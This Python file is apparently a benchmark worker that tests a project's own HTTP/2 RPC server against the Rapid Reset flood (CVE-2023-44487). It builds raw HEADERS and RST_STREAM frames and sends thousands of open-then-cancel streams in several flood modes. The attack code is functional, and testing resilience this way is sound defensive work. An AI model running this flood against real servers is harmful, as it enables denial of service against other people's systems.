"""The worker of bench.wire that opens and resets streams as fast as it can (CVE-2023-44487)."""

import functools
import os
import struct
from typing import Any, Final

import trio
from hpack.hpack import Encoder

from bench._rpc_ours import say
from bench._wire_fleet import answer_requests, dial, server_name
from pharos.wire.errors import WireError
from pharos.wire.rpc.transport import SecureStream
from tests.support.rpc import request_headers

_HEADER: Final = struct.Struct(">HBBBL")
_HEADERS, _RST_STREAM, _SETTINGS, _PING = 0x1, 0x3, 0x4, 0x6
_END_HEADERS, _ACK = 0x4, 0x1
_CANCEL: Final = 8

# A server that bears it all answers this at the end; one that does not has closed by then.
_LAST_PING: Final = b"all sent"

# So many resets at once while the flood lasts: each write finds out whether the server still listens.
_CHUNK: Final = 50
_MOST: Final = 20_000


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return _HEADER.pack(len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream_id) + payload


_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, b"")
_PING_FRAME: Final = frame(_PING, 0, 0, _LAST_PING)
_PONG: Final = frame(_PING, _ACK, 0, _LAST_PING)


@functools.cache
def resets() -> list[bytes]:
    """Requests, each with its reset: 30 octets a piece, for their fields are in HPACK's table after the first."""
    encoder = Encoder()
    fields = [
        (name, value if name != ":authority" else server_name("server")) for name, value in request_headers("Echo")
    ]
    first, other = encoder.encode(fields), encoder.encode(fields)
    pairs = []
    for number in range(_MOST):
        block = other if number else first
        stream_id = 2 * number + 1
        pairs.append(
            frame(_HEADERS, _END_HEADERS, stream_id, block)
            + frame(_RST_STREAM, 0, stream_id, _CANCEL.to_bytes(4, "big"))
        )
    return pairs


async def attack(port: int, count: int, *, chunk: int) -> int:
    """Send ``count`` resets on one connection, as long as it lasts; return how many were sent."""
    pairs = resets()
    chunks = [(min(chunk, count - at), b"".join(pairs[at : min(at + chunk, count)])) for at in range(0, count, chunk)]
    sent = 0
    stream = await dial("server", port, by="client")
    try:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(wait_end, stream, nursery.cancel_scope)
            await stream.send_all(_PREFACE)
            for number, data in chunks:
                # What is in flight when the server closes was sent all the same.
                sent += number
                await stream.send_all(data)
            await stream.send_all(_PING_FRAME)
    except* trio.BrokenResourceError:
        pass
    finally:
        await trio.aclose_forcefully(stream)
    return sent


async def wait_end(stream: SecureStream, scope: trio.CancelScope) -> None:
    """Read on, or a server that does not refuse us would have to stop; until it closes or has taken all."""
    tail = b""
    while data := await stream.receive_some():
        tail = (tail + data)[-2 * len(_PONG) :]
        if _PONG in tail or _PONG in data:
            break
    scope.cancel()


async def blob(*, port: int, count: int) -> dict[str, Any]:
    """Send all on one connection, in one piece."""
    return {"sent": await attack(port, count, chunk=count), "connections": 1}


async def many(*, port: int, count: int, each: int) -> dict[str, Any]:
    """Send all, ``each`` on a connection of its own: as many as the server bears, and one more."""
    sent = connections = 0
    while sent < count:
        sent += await attack(port, min(each, count - sent), chunk=each)
        connections += 1
    return {"sent": sent, "connections": connections}


async def run() -> None:
    scope = trio.CancelScope()
    sent = connections = 0

    async def flood(port: int, rate: float) -> None:
        nonlocal sent, connections
        with scope:
            while True:
                soonest = trio.current_time() + 1 / rate
                try:
                    sent += await attack(port, _MOST, chunk=_CHUNK)
                    connections += 1
                except WireError:
                    pass
                await trio.sleep_until(soonest)

    async with trio.open_nursery() as nursery:

        async def start(*, port: int, rate: float) -> dict[str, Any]:
            """Attack, with at most ``rate`` new connections a second, until told to stop."""
            nonlocal scope, sent, connections
            scope, sent, connections = trio.CancelScope(), 0, 0
            nursery.start_soon(flood, port, rate)
            return {}

        async def stop() -> dict[str, Any]:
            scope.cancel()
            return {"sent": sent, "connections": connections}

        # An attacker has machines of its own: here it gives way to the server and the good client.
        os.nice(5)
        resets()
        say(ready=True)
        await answer_requests({"blob": blob, "many": many, "start": start, "stop": stop})
        nursery.cancel_scope.cancel()


if __name__ == "__main__":
    trio.run(run)
